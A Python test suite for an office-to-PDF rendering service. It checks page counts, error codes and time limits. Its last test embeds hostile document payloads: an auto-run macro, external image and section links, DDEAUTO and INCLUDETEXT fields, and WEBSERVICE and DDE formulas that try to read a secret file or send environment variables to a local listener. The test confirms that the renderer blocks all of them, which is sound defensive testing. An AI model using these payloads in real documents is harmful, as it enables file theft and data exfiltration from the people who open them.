# SPDX-FileCopyrightText: The Imprimatur authors
# SPDX-License-Identifier: Apache-2.0
"""What people write with an office program is printed, and reaches for nothing while it becomes pages."""

import http.server
import os
import shutil
import statistics
import subprocess
import threading
import time

from harness import office
from harness.story import equal, skip
from harness.world import build_folder

ADA = "ada@demo.example"
OPEN_XML = "application/vnd.openxmlformats-officedocument."
OPEN_DOCUMENT = "application/vnd.oasis.opendocument."
DAMAGED, PASSWORD, LIMIT = 4, 5, 6

# What it is, its octets, its pages, and a word on the first one.
KINDS = {
    "docx": (OPEN_XML + "wordprocessingml.document", office.docx("Apfel", "Birne", "Zimt"), 3, "Apfel"),
    "xlsx": (OPEN_XML + "spreadsheetml.sheet", office.xlsx("Apfel", "=6*7"), 1, "42"),
    "pptx": (OPEN_XML + "presentationml.presentation", office.pptx("Apfel", "Birne"), 2, "Apfel"),
    "odt": (OPEN_DOCUMENT + "text", office.odt("Apfel", "Birne"), 2, "Apfel"),
    "ods": (OPEN_DOCUMENT + "spreadsheet", office.ods("Apfel", "=[.A1]&\"mus\""), 1, "Apfelmus"),
    "odp": (OPEN_DOCUMENT + "presentation", office.odp("Apfel", "Birne"), 2, "Apfel"),
    "rtf": ("application/rtf", office.rtf("Apfel", "Birne"), 2, "Apfel"),
    "csv": ("text/csv", "Äpfel;1,5\nBirnen;2\n".encode(), 1, "Äpfel"),
}
OLD = {"doc": ("docx", "application/msword"), "xls": ("xlsx", "application/vnd.ms-excel"), "ppt": ("pptx", "application/vnd.ms-powerpoint")}


def unwrap(answer):
    """The document in the renderer's frames (imprimatur-render(8))."""
    document, at = b"", 0
    while at < len(answer):
        size = int.from_bytes(answer[at + 1 : at + 5], "big")
        if answer[at : at + 1] == b"D":
            document += answer[at + 5 : at + 5 + size]
        at += 5 + size
    return document


def render(media_type, document, *options):
    """Its exit status, and the PDF that it made."""
    program = os.path.join(build_folder(), "src", "imprimatur-render")
    words = [program, "--from", media_type, "--to", "application/pdf"] + list(options)
    secret = dict(os.environ, SECRET="canary-of-the-environment")
    done = subprocess.run(words, input=document, env=secret, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=200)
    print(done.stderr.decode(errors="replace"))  # shown where the story fails
    return done.returncode, unwrap(done.stdout) if done.returncode == 0 else b""


def text_of(pdf):
    return subprocess.run(["pdftotext", "-", "-"], input=pdf, stdout=subprocess.PIPE, check=True).stdout.decode()


def pages_of(pdf):
    told = subprocess.run(["pdfinfo", "-"], input=pdf, stdout=subprocess.PIPE, check=True).stdout.decode()
    return int(next(line.split()[1] for line in told.splitlines() if line.startswith("Pages:")))


def want_libreoffice():
    if not office.is_there():
        skip("LibreOffice is not here")


def expect(name, media_type, document, pages, word):
    status, pdf = render(media_type, document)
    equal(status, 0, "the end of " + name)
    equal(pages_of(pdf), pages, "pages of " + name)
    equal(word in text_of(pdf), True, "\"%s\" in %s" % (word, name))


def story_they_are_printed(world):
    want_libreoffice()
    ada = world.api(ADA)
    for count, name in enumerate(("docx", "ods", "odp"), 1):
        media_type, document, pages, word = KINDS[name]
        job = ada.submit(document, "a document." + name, content_type="application/octet-stream")
        equal(job["format"], media_type, "what it is kept as")
        ada.release(world.printers["lobby"], [job["id"]])
        paper = world.wait_paper("lobby", count=count, seconds=120)[-1]
        paper = paper[paper.index(b"%PDF") :]
        equal((pages_of(paper), word in text_of(paper)), (pages, True), "pages of %s, and its words on paper" % name)


def story_every_kind_becomes_pages(world):
    want_libreoffice()
    for name, (media_type, document, pages, word) in KINDS.items():
        expect(name, media_type, document, pages, word)


def story_those_of_old_programs_too(world):
    want_libreoffice()
    folder = world.path("old")
    os.makedirs(folder)
    for name, (origin, media_type) in OLD.items():
        source = os.path.join(folder, "a." + origin)
        with open(source, "wb") as file:
            file.write(KINDS[origin][1])
        subprocess.run(
            ["/usr/bin/soffice", "-env:UserInstallation=file://%s/profile" % folder, "--headless", "--convert-to", name, "--outdir", folder, source],
            check=True, timeout=200, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )
        with open(os.path.join(folder, "a." + name), "rb") as file:
            expect(name, media_type, file.read(), KINDS[origin][2], KINDS[origin][3])


def seconds_of(what):
    begun = time.monotonic()
    what()
    return time.monotonic() - begun


def story_a_new_profile_costs_little(world):
    """LibreOffice with a profile that it made itself, in turns with ours, which is as new."""
    want_libreoffice()
    folder = world.path("bare")
    os.makedirs(folder)
    media_type, document, _, _ = KINDS["docx"]
    with open(os.path.join(folder, "a.docx"), "wb") as file:
        file.write(document)

    def bare():
        shutil.rmtree(os.path.join(folder, "profile"), ignore_errors=True)
        subprocess.run(
            ["/usr/bin/soffice", "-env:UserInstallation=file://%s/profile" % folder, "--headless", "--convert-to", "pdf", "--outdir", folder,
             os.path.join(folder, "a.docx")],
            check=True, timeout=200, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )

    times = [(seconds_of(lambda: render(media_type, document)), seconds_of(bare)) for _ in range(3)]
    ours, theirs = (statistics.median(column) for column in zip(*times))
    equal(ours < 0.8 * theirs, True, "ours in %.2f s, LibreOffice alone in %.2f s" % (ours, theirs))


def story_what_cannot_be_opened_says_why(world):
    want_libreoffice()
    docx, odt = KINDS["docx"], KINDS["odt"]
    locked = office.open_document("text", os.urandom(900), stored=("content.xml",))
    rows = (
        ("a docx that is cut", docx[0], docx[1][: len(docx[1]) // 2], DAMAGED),
        ("a docx of nothing", docx[0], office.archive({"word/document.xml": "<"}), DAMAGED),
        ("a docx with a password", docx[0], office.compound("EncryptedPackage"), PASSWORD),
        ("a ppt with a password", "application/vnd.ms-powerpoint", office.compound("PowerPoint Document") + "EncryptedSummary".encode("utf-16-le"), PASSWORD),
        ("an odt with a password", odt[0], locked, PASSWORD),
        ("an odt that is called docx", docx[0], odt[1], DAMAGED),
    )
    for name, media_type, document, status in rows:
        equal(render(media_type, document)[0], status, name)


def story_what_takes_too_long_is_ended(world):
    want_libreoffice()
    many = office.odt(*("page %d " % n + "word " * 300 for n in range(3000)))
    equal(render(OPEN_DOCUMENT + "text", many, "--wall-s", "3")[0], LIMIT, "a book in three seconds")
    equal(render(OPEN_DOCUMENT + "text", many, "--cpu-s", "1")[0], LIMIT, "a book in a second of work")


class Listener:
    """Whoever comes here, came out of the cell."""

    def __init__(self):
        self.requests = []
        requests = self.requests

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                requests.append(self.path)
                self.send_error(404)

            def log_message(self, *words):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = "http://127.0.0.1:%d" % self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


MACRO = {
    "Basic/script-lc.xml": office.XML + '<library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<library:library library:name="Standard" library:link="false"/></library:libraries>',
    "Basic/Standard/script-lb.xml": office.XML + '<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard"'
    ' library:readonly="false" library:passwordprotected="false"><library:element library:name="M"/></library:library>',
    "Basic/Standard/M.xml": office.XML + '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">'
    'Sub Main\nThisComponent.Text.String = "canary of a macro"\nEnd Sub\n</script:module>',
}
ON_LOAD = (
    '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load"'
    ' xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document" xlink:type="simple"/>'
    "</office:event-listeners></office:scripts>"
)
PICTURE = '<text:p>seen<draw:frame svg:width="5cm" svg:height="5cm"><draw:image xlink:href="%s" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>'
SECTION = '<text:section text:name="s"><text:section-source xlink:href="%s" text:filter-name="Text"/><text:p>seen</text:p></text:section>'
OBJECT = '<text:p>seen<draw:frame svg:width="5cm" svg:height="5cm"><draw:object xlink:href="%s" xlink:type="simple"/></draw:frame></text:p>'
FIELD = (
    '<w:p><w:r><w:t>seen</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> %s </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>as saved</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def story_nothing_is_reached_for(world):
    want_libreoffice()
    listener = Listener()
    secret = world.path("secret.txt")
    with open(secret, "w") as file:
        file.write("canary of a file")
    os.chmod(secret, 0o644)
    places = (
        listener.address + "/x.png", "file://" + secret, "smb://127.0.0.1/x.png",
        "vnd.sun.star.expand:" + listener.address + "/${$PATH}/${$SECRET}", "vnd.sun.star.expand:file://" + secret,
    )
    rows = [("a macro", OPEN_DOCUMENT + "text", office.odt("seen", more=MACRO, scripts=ON_LOAD))]
    escaped = [office.escape(place, {'"': "&quot;"}) for place in places]
    for name, what in (("pictures", PICTURE), ("sections", SECTION), ("objects", OBJECT)):
        rows.append((name, OPEN_DOCUMENT + "text", office.odt("seen", body="".join(what % place for place in escaped))))
    fields = ('INCLUDETEXT "%s"' % secret, 'INCLUDEPICTURE "%s/y.png"' % listener.address, "DDEAUTO soffice %s x" % secret)
    body = "".join(FIELD % office.escape(field) for field in fields)
    rows.append(("fields", OPEN_XML + "wordprocessingml.document", office.docx("seen", body=body)))
    sheet = ("seen", '=WEBSERVICE("%s/w")' % listener.address, '=DDE("soffice";"%s";"A1")' % secret, "='file://%s'#$One.A1" % secret)
    rows.append(("cells", OPEN_DOCUMENT + "spreadsheet", office.ods(*sheet)))
    rows.append(("cells of Excel", OPEN_XML + "spreadsheetml.sheet", office.xlsx("seen", '=_xlfn.WEBSERVICE("%s/w")' % listener.address)))
    for name, media_type, document in rows:
        status, pdf = render(media_type, document)
        equal(status, 0, "the end of " + name)
        text = text_of(pdf)
        equal(("seen" in text, "canary" in text), (True, False), name)
    equal(listener.requests, [], "what came over the network")
